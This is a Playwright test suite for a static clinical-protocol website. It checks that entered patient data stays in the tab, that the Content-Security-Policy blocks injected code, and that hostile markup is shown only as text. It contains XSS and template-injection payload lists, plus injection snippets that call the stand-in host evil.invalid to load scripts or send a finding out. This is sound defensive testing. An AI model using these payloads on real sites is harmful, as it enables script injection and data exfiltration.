"""Nothing that is entered leaves the tab unless the reader takes it, and nothing foreign runs in it."""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from build_scripts.content.load import load_content
from build_scripts.content.skeleton import write_skeleton
from build_scripts.project.static_server import serving
from build_scripts.site.build import build_site
from build_scripts.site.policy import server_policy
from checker.answers.echo import UNSEEN
from tests.support.real_protocols import PARTS, pages_of
from tests.support.site.limits import limit
from tests.support.site.visits import CHECKER, visiting

pytestmark = pytest.mark.browser

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(
  `${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""

KEPT = """async () => ({
  cookies: document.cookie,
  local: { ...localStorage },
  session: { ...sessionStorage },
  databases: (await indexedDB.databases()).map((database) => database.name),
  caches: await caches.keys(),
  name: window.name,
  title: document.title,
  length: history.length,
  state: history.state,
  address: location.href,
})"""


@pytest.fixture(params=["the page's own policy", "the server's policy as well"])
def strict(request, browser, site):
    """A visit under the policy of the page, and under that of a server that sends the stricter header."""
    headers = {"Content-Security-Policy": server_policy(site.site)} if "server" in request.param else {}
    with serving(site.site.parent, headers) as host, visiting(browser, f"{host}/{site.site.name}") as visit:
        visit.page.add_init_script(WATCH)
        yield visit


def assess(visit, protocol):
    """Use every kind of field, ask for a reason, reset."""
    page = visit.page
    for name in ("atra", "ato"):
        visit.choose(name, "given")
    for name in ("dyspnea", "acute-renal-failure", "dexamethasone-given"):
        visit.choose(name, "true")
    visit.enter("qtc", str(limit(protocol, "qtc") + 1))
    for field in page.locator("input[type=date]").all():
        field.fill("2026-11-20")
    page.keyboard.press("Enter")
    visit.recommendation("withhold-ato").locator("[data-part=title]").first.click()
    expect(visit.recommendation("withhold-ato").locator(".wb-tree").first).to_be_visible()


def test_a_whole_assessment_asks_nothing_and_leaves_nothing_but_in_the_tab_until_it_is_reset(strict, protocol):
    page = strict.open_checker()
    page.wait_for_timeout(4000)  # what is fetched ahead for the next visit
    before, asked = page.evaluate(KEPT), len(strict.requests)

    assess(strict, protocol)
    after = page.evaluate(KEPT)
    entries = [key for key in after["session"] if key not in before["session"]]
    assert [key.startswith("wardbook.entries ") for key in entries] == [True]
    del after["session"][entries[0]]
    page.get_by_role("button", name="Reset").click()
    page.locator("[data-part=confirm-yes]").click()
    expect(page.locator(".wb-message--empty")).to_be_visible()

    assert after == before
    assert page.evaluate(KEPT) == before
    assert page.context.cookies() == []
    assert [request.url for request in strict.requests[asked:]] == []
    for request in strict.requests:
        assert request.method == "GET"
        assert urlsplit(request.url).query == ""
        assert request.post_data is None
    assert page.evaluate("window.violations") == []
    assert strict.complaints == []


@pytest.mark.parametrize("strict", ["the server's policy as well"], indirect=True)  # it forbids all that the other does
@pytest.mark.parametrize("part", PARTS)
def test_no_page_asks_another_host_or_meets_its_policy(strict, site, part):
    page = strict.page
    for path in pages_of(site.site, part):
        strict.open(path.relative_to(site.site).as_posix())
        page.wait_for_load_state("load")
        assert page.evaluate("window.violations") == [], path
    hosts = {urlsplit(request.url).netloc for request in strict.requests if request.url.startswith("http")}
    assert hosts == {urlsplit(strict.address).netloc}


def test_search_palette_and_print_meet_no_policy(strict):
    page = strict.open(CHECKER)
    page.get_by_placeholder("Search").click()
    expect(page.get_by_text("Type to start searching")).to_be_visible()
    page.get_by_placeholder("Search").press_sequentially("dexamethasone")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    page.keyboard.press("Escape")
    for _ in range(3):
        page.locator("form[data-md-component=palette] label:not([hidden])").click()
    page.emulate_media(media="print", color_scheme="dark")
    assert page.evaluate("window.violations") == []


ATTACKS = {
    "an inline script": "const s = document.createElement('script'); s.text = 'window.hit = 1'; "
    "document.body.append(s)",
    "an event handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
    "a text that is run": "setTimeout('window.hit = 1')",
    "a script as an address": "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1'; "
    "document.body.append(a); a.click()",
    "a foreign script": "const s = document.createElement('script'); s.src = 'http://evil.invalid/x.js'; "
    "document.body.append(s)",
    "a foreign request": "fetch('http://evil.invalid/?finding=1').catch(() => {})",
    "a foreign picture": "new Image().src = 'http://evil.invalid/?finding=1'",
    "a form that is sent": "const f = document.createElement('form'); f.action = 'http://evil.invalid/'; "
    "document.body.append(f); f.submit()",
    "another base": "const b = document.createElement('base'); b.href = 'http://evil.invalid/'; "
    "document.head.append(b)",
    "an inline style": "const s = document.createElement('style'); s.textContent = 'body{outline:1px solid}'; "
    "document.head.append(s)",
    "a foreign frame": "const f = document.createElement('iframe'); f.src = 'http://evil.invalid/'; "
    "document.body.append(f)",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_injected_is_blocked(visit, attack):
    visit.page.add_init_script(WATCH)
    page = visit.open("index.html")
    # Through the debugger, so that it is the policy that blocks and not the way in.
    page.evaluate(f"() => {{ {ATTACKS[attack]} }}")

    page.wait_for_function("() => window.violations.length > 0")
    assert page.evaluate("window.hit") is None
    assert not any("evil.invalid" in request.url for request in visit.requests if request.failure is None)


HOSTILE = [
    "<script>window.hit=true</script>",
    "<img src=x onerror=window.hit=true>",
    "<svg/onload=window.hit=true>",
    "</script><script>window.hit=true</script>",
    "</title><script>window.hit=true</script>",
    "</template><img src=x onerror=window.hit=true>",
    "</textarea><svg onload=window.hit=true>",
    "<!--<script>window.hit=true</script>",
    "--><img src=x onerror=window.hit=true>",
    "<![CDATA[<img src=x onerror=window.hit=true>]]>",
    '" onmouseover="window.hit=true',
    "' onfocus='window.hit=true' autofocus='",
    "` onclick=`window.hit=true",
    "javascript:window.hit=true",
    "[x](javascript:window.hit=true)",
    "![x](x){onerror=window.hit=true}",
    "{: onclick=window.hit=true }",
    "{{ config.extra }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${window.hit=true}",
    "&lt;img src=x onerror=window.hit=true&gt;",
    "&#60;script&#62;window.hit=true&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.hit=true",
    "<iframe srcdoc='<script>parent.hit=true</script>'>",
    "<style>*{display:none}</style>",
    "<a href=//evil.invalid>x</a>",
    "<form action=//evil.invalid><button>x</button></form>",
    "<meta http-equiv=refresh content=;url=//evil.invalid>",
    "<base href=//evil.invalid>",
    "\u202egnp.exe \u200bzero\u2066width",
    "| a | b |\\n|---|---|",
    "# not a heading",
    "--8<-- 'mkdocs.yml'",
    "*not emphasis* _nor_ `code`",
]
"""What a text, an address or a file might carry, to be shown as it is or refused, and never to be run."""


def test_a_case_that_carries_markup_is_answered_as_text(checker, protocol):
    page = checker.page
    answers = page.evaluate(
        """async ([protocol, texts]) => {
          const engine = new wardbook.Engine();
          await engine.start(document.querySelector("[data-part=compiled]").textContent);
          const answers = [];
          for (const text of texts) {
            const finding = JSON.stringify({ protocol, findings: { [text]: text } });
            const value = JSON.stringify({ protocol, findings: { qtc: { value: text, unit: text } } });
            answers.push(await engine.answer(finding), await engine.answer(value), await engine.answer(text));
            answers.push(await engine.explain(value));
          }
          engine.stop();
          return answers;
        }""",
        [protocol.id, HOSTILE],
    )

    assert len(answers) == 4 * len(HOSTILE)
    for answer in answers:
        assert set(json.loads(answer)) == {"errors"}
    assert page.evaluate("window.hit") is None


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_typed_into_a_field_is_shown_as_text(checker, text):
    page = checker.page
    count = page.evaluate("document.querySelectorAll('script, img, svg, iframe, style, base, form').length")
    checker.choose("atra", "given")
    checker.enter("qtc", text)

    expect(checker.field("qtc").locator("[data-part=error]")).to_be_visible()
    expect(checker.answer().locator(".wb-message--refused")).to_be_visible()
    assert page.evaluate("window.hit") is None
    assert page.evaluate("document.querySelectorAll('script, img, svg, iframe, style, base, form').length") == count
    assert checker.complaints == []


@pytest.fixture(scope="module")
def linked(browser, address):
    """A tab into which one link after the other is opened."""
    with visiting(browser, address) as visit:
        yield visit


@pytest.mark.parametrize("text", HOSTILE)
def test_a_fragment_that_carries_markup_does_nothing(linked, text):
    visit, page = linked, linked.page
    page.goto("about:blank")  # else only the fragment would change, and nothing be loaded
    visit.complaints.clear()
    page.goto(f"{visit.address}/{CHECKER}#{text}")
    page.wait_for_load_state("load")

    assert page.evaluate("window.hit") is None
    expect(page.locator("h1")).to_contain_text("Assess a patient")
    assert [line for line in visit.complaints if "getElementById" not in line] == []


def test_texts_of_authors_are_shown_as_text_on_every_page(workshop, repository, browser):
    """Through the whole build, the theme and its search included."""
    (workshop.root / "node_modules").symlink_to(repository / "node_modules", target_is_directory=True)
    workshop.build.mkdir()
    (workshop.build / "runtime").symlink_to(repository / "build" / "runtime", target_is_directory=True)
    # What cannot be seen is refused, and so are numbers that belong to no dose and no limit, whatever is around them.
    taken = [text for text in HOSTILE if not UNSEEN.search(text) and not any(letter.isdigit() for letter in text)]
    assert len(taken) > len(HOSTILE) * 0.8
    every = " ¦ ".join(text for text in taken if "\\n" not in text)
    quoted = "'" + every.replace("'", "''") + "'"
    file = write_skeleton(workshop, "example") / "protocol.yml"
    text = file.read_text(encoding="utf-8")
    for known in (
        "label: Example sign",
        "label: Do what the example says",
        "text: When it is suspected, do what the example says.",
        "title: Recognise",
        "container-title: Journal of Examples",
        "label: The example condition is suspected",
    ):
        assert known in text
        text = text.replace(known, f"{known.partition(':')[0]}: {quoted}", 1)
    file.write_text(text, encoding="utf-8")
    build_site(workshop, load_content(workshop.docs), print)

    with serving(workshop.site) as address, visiting(browser, address) as visit:
        page = visit.page
        page.on("dialog", lambda dialog: visit.complaints.append("a dialog"))
        for path in sorted(workshop.site.rglob("*.html")):
            visit.open(path.relative_to(workshop.site).as_posix())
            assert page.evaluate("window.hit") is None, path
            assert page.locator("iframe, base, meta[http-equiv=refresh], img[src=x]").count() == 0, path
        visit.open("protocols/example/treat.html")
        statement = page.locator(".wb-statement", has=page.locator("#S02"))
        for hostile in every.split(" ¦ "):
            expect(statement).to_contain_text(hostile, use_inner_text=False)
        visit.open("protocols/example/checker.html")
        expect(page.locator("#finding-example-sign [data-part=label]")).to_contain_text(HOSTILE[0])
        page.get_by_placeholder("Search").click()
        expect(page.get_by_text("Type to start searching")).to_be_visible()
        page.get_by_placeholder("Search").press_sequentially("example")
        expect(page.locator(".md-search-result__item").first).to_be_visible()
        assert page.evaluate("window.hit") is None
        assert visit.complaints == []
